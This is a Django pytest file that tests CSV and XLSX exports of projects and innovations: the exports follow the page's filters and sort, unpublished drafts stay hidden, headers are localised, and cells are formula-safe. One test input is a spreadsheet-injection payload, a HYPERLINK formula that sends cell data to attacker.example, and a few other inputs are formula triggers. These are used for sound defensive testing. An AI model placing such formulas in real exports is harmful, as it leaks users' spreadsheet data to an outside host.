"""Projects and institutional innovations out to CSV and XLSX: exactly the rows the list page
shows for the same filters and sort, never a project the person could not see there, every
cell formula-safe in both formats, headers in the reader's language."""

import datetime
from decimal import Decimal

import pytest
from django.urls import reverse

from corridor.accounts.models import Membership
from corridor.testing.exports import csv_table, records, table, xlsx_table
from corridor.testing.factories import (
    InnovationFactory,
    MembershipFactory,
    OrganisationFactory,
    ProjectFactory,
    ProjectPartyFactory,
    UserFactory,
    sector,
)

pytestmark = pytest.mark.django_db

FORMATS = ["csv", "xlsx"]


def export(client, name: str, fmt: str, params=None):
    return client.get(reverse(f"portfolio:{name}_export_{fmt}"), params or {})


@pytest.fixture
def projects(enterprise, other_enterprise):
    """Five projects of two organisations, one of them not published (Qingling's draft)."""
    return {
        "channel": ProjectFactory(
            title_en="International Data Channel",
            title_zh="国际数据通道",
            kind="g2g",
            status="in_progress",
            sector=sector("ict"),
            signed_on=datetime.date(2019, 9, 1),
            value=Decimal("2500000"),
            owner=enterprise,
        ),
        "raffles": ProjectFactory(
            title_en="Raffles City Chongqing",
            kind="commercial",
            status="completed",
            sector=sector("aviation"),
            signed_on=datetime.date(2016, 1, 15),
            value=Decimal("3400000000"),
            owner=other_enterprise,
        ),
        "vans": ProjectFactory(
            title_en="Electric vans to Singapore",
            kind="commercial",
            status="signed",
            signed_on=datetime.date(2024, 3, 1),
            value=Decimal("10800000"),
            owner=enterprise,
        ),
        "cold": ProjectFactory(
            title_en="Cold-chain hub",
            kind="g2b",
            status="signed",
            signed_on=datetime.date(2021, 5, 1),
            value=None,
            owner=other_enterprise,
        ),
        "draft": ProjectFactory(
            title_en="Unannounced deal",
            title_zh="未公布的协议",
            owner=enterprise,
            signed_on=datetime.date(2025, 1, 1),
            is_published=False,
        ),
    }


def page_titles(client, params) -> list[str]:
    response = client.get(reverse("portfolio:project_list"), params)
    return [p.title_en for p in response.context["projects"]]


def exported_titles(response) -> list[str]:
    return [row["title (English)"] for row in records(response)]


# --- the page's rows, no more -------------------------------------------------------------


@pytest.mark.parametrize("fmt", FORMATS)
@pytest.mark.parametrize(
    "params",
    [
        {},
        {"kind": "commercial"},
        {"status": "signed", "sort": "signed_on"},
        {"q": "chongqing"},
        {"sector": "aviation"},
        {"year": "2019"},
        {"sort": "-value"},
        {"kind": "g2g", "status": "completed"},  # nothing
        {"kind": "no-such-kind"},  # not understood: left out, as the page leaves it out
    ],
)
def test_a_filtered_export_holds_exactly_the_pages_rows_in_its_order(
    client, admin_user, projects, params, fmt
):
    client.force_login(admin_user)
    expected = page_titles(client, params)
    assert exported_titles(export(client, "project", fmt, params)) == expected
    if params == {"kind": "commercial"}:
        assert expected == [
            "Unannounced deal",
            "Electric vans to Singapore",
            "Raffles City Chongqing",
        ]


@pytest.mark.parametrize("fmt", FORMATS)
def test_anonymous_visitors_export_only_published_projects(client, projects, fmt):
    titles = exported_titles(export(client, "project", fmt))
    assert "Unannounced deal" not in titles
    assert titles == page_titles(client, {})
    assert len(titles) == 4
    # asking for unpublished projects by the filter does not reveal them either
    assert exported_titles(export(client, "project", fmt, {"published": "no"})) == []


def _member_of(organisation, username):
    user = UserFactory(username=username)
    MembershipFactory(user=user, organisation=organisation, role=Membership.Role.MEMBER)
    return user


@pytest.mark.parametrize(
    ("who", "sees_the_draft"),
    [
        ("anonymous", False),
        ("outsider", False),  # a member of another organisation
        ("regulator", False),
        ("partner", True),  # a party of the draft
        ("owner", True),
    ],
)
def test_an_unpublished_project_is_exported_only_to_those_who_see_it(
    client, projects, owner, outsider, who, sees_the_draft
):
    partner = _member_of(OrganisationFactory(name_en="Motorway Partner", kind="partner"), "p")
    ProjectPartyFactory(
        project=projects["draft"], organisation=partner.memberships.get().organisation
    )
    regulator = _member_of(OrganisationFactory(name_en="LTA", kind="regulator"), "reg")
    user = {"anonymous": None, "outsider": outsider, "regulator": regulator}.get(who)
    user = user or {"partner": partner, "owner": owner}.get(who)
    if user is not None:
        client.force_login(user)
    for fmt in FORMATS:
        titles = exported_titles(export(client, "project", fmt, {"published": "no"}))
        assert titles == (["Unannounced deal"] if sees_the_draft else [])


# --- cells ----------------------------------------------------------------------------------


def test_xlsx_neutralises_formulas_and_keeps_numbers_and_dates(client, enterprise):
    ProjectFactory(
        external_id="@SUM(A1)",
        title_en='=HYPERLINK("https://attacker.example/?leak="&A1, "Click")',
        title_zh="\t=1+1",
        location_en="-2+3",
        owner=enterprise,
        value=Decimal("1250.50"),
        signed_on=datetime.date(2023, 4, 5),
    )
    (row,) = records(export(client, "project", "xlsx"))
    assert row["external id"] == "'@SUM(A1)"
    assert row["title (English)"] == '\'=HYPERLINK("https://attacker.example/?leak="&A1, "Click")'
    assert row["title (Chinese)"] == "'\t=1+1"
    assert row["location"] == "'-2+3"
    assert row["value"] == 1250.5  # a number, not text
    assert row["signing date"] == datetime.datetime(2023, 4, 5)
    csv_row = records(export(client, "project", "csv"))[0]
    assert csv_row["title (English)"].startswith("'=HYPERLINK")
    assert csv_row["value"] == "1250.50"


# --- language ---------------------------------------------------------------------------------


@pytest.mark.parametrize("fmt", FORMATS)
def test_chinese_headers_and_names_with_lang(client, projects, fmt):
    header, *rows = table(export(client, "project", fmt, {"lang": "zh-hans", "kind": "g2g"}))
    assert header[:2] == ["外部编号", "标题"]
    assert header[4] == "类型代码"
    assert rows[0][1] == "国际数据通道"
    assert rows[0][4] == "g2g"  # codes stay codes


@pytest.mark.parametrize("fmt", FORMATS)
def test_chinese_headers_with_the_language_cookie(client, projects, fmt):
    client.cookies["django_language"] = "zh-hans"
    header, *rows = table(export(client, "project", fmt, {"kind": "g2g"}))
    assert header[1] == "标题"
    assert rows[0][-2] == "是"  # published: yes


def test_lang_en_wins_over_a_chinese_cookie(client, projects):
    client.cookies["django_language"] = "zh-hans"
    header, *_rows = csv_table(export(client, "project", "csv", {"lang": "en"}))
    assert header[1] == "title"


# --- innovations ------------------------------------------------------------------------------


@pytest.mark.parametrize("fmt", FORMATS)
def test_innovations_follow_the_filters_and_hide_unpublished_ones(client, administration, fmt):
    trade = InnovationFactory(
        title_en="Single window", category="trade", adopted_on=datetime.date(2019, 4, 1)
    )
    trade.agencies.add(administration)
    trade.replications.create(place_en="Chengdu", place_zh="成都", country="CN")
    InnovationFactory(title_en="Cross-border RMB loans", category="finance")
    InnovationFactory(title_en="Draft innovation", category="trade", is_published=False)

    rows = records(export(client, "innovation", fmt, {"category": "trade"}))
    listed = client.get(reverse("portfolio:innovation_list"), {"category": "trade"})
    assert [r["title (English)"] for r in rows] == [
        i.title_en for i in listed.context["innovations"]
    ]
    assert [r["title (English)"] for r in rows] == ["Single window"]
    assert rows[0]["agencies involved"] == "CCI Administration Bureau"
    assert rows[0]["replicated to"] == "Chengdu"


def test_innovation_xlsx_neutralises_formulas(client):
    InnovationFactory(title_en="+44 hotline", source_url="=cmd")
    (row,) = records(export(client, "innovation", "xlsx"))
    assert row["title (English)"] == "'+44 hotline"
    assert row["source"] == "'=cmd"


def test_innovation_export_in_chinese(client, administration):
    InnovationFactory(title_en="Single window", title_zh="国际贸易单一窗口").agencies.add(
        administration
    )
    header, row = xlsx_table(export(client, "innovation", "xlsx", {"lang": "zh-hans"}))
    assert header[1] == "标题" and header[5] == "类别"
    assert row[1] == "国际贸易单一窗口"
    assert row[7] == "中新示范项目管理局"


# --- the links on the pages ---------------------------------------------------------------------


@pytest.mark.parametrize(
    ("page", "export_name"),
    [
        ("portfolio:project_list", "portfolio:project_export"),
        ("portfolio:dashboard", "portfolio:project_export"),
        ("portfolio:innovation_list", "portfolio:innovation_export"),
    ],
)
def test_the_pages_link_both_formats_with_their_filters(client, projects, page, export_name):
    html = client.get(reverse(page), {"kind": "g2g", "page": "1"}).text
    for fmt in FORMATS:
        assert f'href="{reverse(f"{export_name}_{fmt}")}?kind=g2g"' in html
